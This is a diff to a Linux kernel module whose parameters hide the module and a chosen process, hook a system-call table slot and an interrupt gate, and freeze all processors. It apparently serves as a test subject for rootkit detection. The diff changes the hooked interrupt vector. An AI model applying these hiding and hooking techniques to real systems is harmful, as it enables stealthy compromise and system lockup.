@@ -4,7 +4,7 @@
  *
  *   hide=1       is missing in the list of modules;  hide=2  in /sys/module, too
  *   hook=TABLE   sys_call_table, found at TABLE, has a function of ours at number 180 (unused)
- *   idt=1        the gate of vector 0x21 (unused) leads to ours
+ *   idt=1        the gate of vector 4 (overflow, which nothing raises) leads to ours
  *   task=PID     that process is missing in the list of tasks; it is still in the table of PIDs
  *   lockup=1     all processors stand still, with interrupts off, for ever
  *
@@ -17,10 +17,9 @@
 #include <linux/sched/signal.h>
 #include <linux/smp.h>
 #include <linux/stop_machine.h>
-#include <linux/version.h>
 
 #define HOOKED_CALL   180
-#define HOOKED_VECTOR 0x21
+#define HOOKED_VECTOR 4
 #define WRITE_PROTECT (1ul << 16)
 
 static int hide, idt, task, lockup;
